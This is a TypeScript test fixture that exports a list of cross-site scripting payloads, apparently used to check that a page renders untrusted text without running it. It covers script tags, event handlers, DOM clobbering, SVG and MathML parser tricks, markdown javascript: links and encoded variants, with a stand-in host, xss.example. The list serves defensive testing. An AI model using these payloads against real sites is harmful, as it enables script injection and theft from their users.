/**
 * Texts that a page must show and never obey. What runs of one sets `window.__xss`; what loads of one
 * asks for something at `https://xss.example`.
 */

const run = "window.__xss=1";
const away = "https://xss.example";

const tags = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT\t>`,
  `<script src="${away}/a.js"></script>`,
  `<script type="module">${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title></textarea></style></script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `</code></pre></div></main><script>${run}</script>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<style>*{display:none!important;background:url(${away}/style)}</style>`,
  `<style>@import "${away}/import.css";</style>`,
  `<link rel="stylesheet" href="${away}/link.css">`,
  `<link rel="prefetch dns-prefetch preconnect" href="${away}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${away}/">`,
  `<base target="_top"><a href="/overview">out</a>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="${away}/frame"></iframe>`,
  `<object data="${away}/object"></object>`,
  `<object data="data:text/html,<script>parent.__xss=1</script>"></object>`,
  `<embed src="${away}/embed">`,
  `<applet code="${away}/applet"></applet>`,
  `<portal src="${away}/portal"></portal>`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="${away}/pixel.png">`,
  `<img srcset="${away}/set.png 1x">`,
  `<img/src=x/onerror=${run}>`,
  `<img src="x\` onerror=${run} \`">`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}"><summary>s</summary></details>`,
  `<video src=x onerror="${run}"></video>`,
  `<video poster="${away}/poster.png"></video>`,
  `<audio src="${away}/sound.ogg" autoplay></audio>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<div onpointerover="${run}" style="position:fixed;inset:0;z-index:99999">over all</div>`,
  `<div style="background:url(${away}/background)">b</div>`,
  `<div popover id=p onbeforetoggle="${run}">p</div><button popovertarget=p>o</button>`,
  `<p style="animation-name:x" onanimationstart="${run}">a</p>`,
  `<x contenteditable onblur="${run}" tabindex=1 autofocus>x</x>`,
  `"><img src=x onerror=${run}>`,
  `' autofocus onfocus='${run}' x='`,
  `" onmouseover="${run}" style="position:fixed;inset:0" x="`,
];

const forms = [
  `<form action="${away}/form"><input name=q value=1><button autofocus>send</button></form>`,
  `<form id="app"><input name="attributes"><input name="nodeName"><input name="parentNode"></form>`,
  `<form><button formaction="javascript:${run}">go</button></form>`,
  `<a id="location" href="${away}/clobbered">c</a><a id="location" name="href">c</a>`,
  `<img name="getElementById"><img name="cookie"><img name="body"><form name="head"></form>`,
  `<input name="localStorage"><iframe name="fetch" src="about:blank"></iframe>`,
  `<isindex action="javascript:${run}" type=image>`,
];

const foreign = [
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>t</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${run}" /><a id="x"><rect/></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.__xss=1"></iframe></foreignObject></svg>`,
  `<svg><image href="${away}/image.png"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math href="javascript:${run}">m</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><style><![CDATA[</style><img src=x onerror=${run}>]]></style></svg>`,
  `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${run}>">`,
  `<table><a href="javascript:${run}"><td>t</table>`,
];

const markdown = [
  `[link](javascript:${run})`,
  `[link](JaVaScRiPt:${run})`,
  `[link](java\tscript:${run})`,
  `[link](&#106;avascript&colon;${run})`,
  `[link](\u0001javascript:${run})`,
  `[link](vbscript:${run})`,
  `[link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[link](blob:null/0 "x" onclick="${run}")`,
  `[link](https://xss.example"onmouseover="${run})`,
  `[link](<javascript:${run}> 'title" onclick="${run}')`,
  `[link]: javascript:${run}\n\n[link]`,
  `<javascript:${run}>`,
  `![image](${away}/markdown.png)`,
  `![image](x"onerror="${run})`,
  `![x](javascript:${run})`,
  `![](data:image/svg+xml,<svg onload=${run}>)`,
  `[![nested](${away}/nested.png)](javascript:${run})`,
  `\`\`\`html"><script>${run}</script>\n<script>${run}</script>\n\`\`\``,
  `\`\`\`js onmouseover=${run}\nlet a = "</code><img src=x onerror=${run}>";\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `# <img src=x onerror=${run}>`,
  `| a | <img src=x onerror=${run}> |\n|---|---|\n| [b](javascript:${run}) | c |`,
  `- [x] <input onfocus=${run} autofocus>`,
  `> **Thinking**\n>\n> <img src=x onerror=${run}>`,
  `[compaction of <img src=x onerror=${run}> tokens]\n\n<script>${run}</script>`,
  `<div>\n\n*inside* <script>${run}</script>\n\n</div>`,
];

const characters = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#x3C;img src=x onerror=${run}&#x3E;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `<\u0000script>${run}</script>`,
  `<img src=x on\u0000error=${run}>`,
  `\u202e<script>${run}</script>\u202c`,
  `\u2066\u2069\u200b\ufeff<img src=x onerror=${run}>`,
  `\u001b]8;;javascript:${run}\u0007click\u001b]8;;\u0007`,
  `\u001b[31m<script>${run}</script>\u001b[0m`,
  `\${${run}} {{constructor.constructor('${run}')()}} <%= ${run} %> #{${run}}`,
  `__proto__ constructor {"__proto__":{"polluted":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
];

/** All of them. */
export const xssPayloads: readonly string[] = [
  ...tags,
  ...handlers,
  ...forms,
  ...foreign,
  ...markdown,
  ...characters,
];
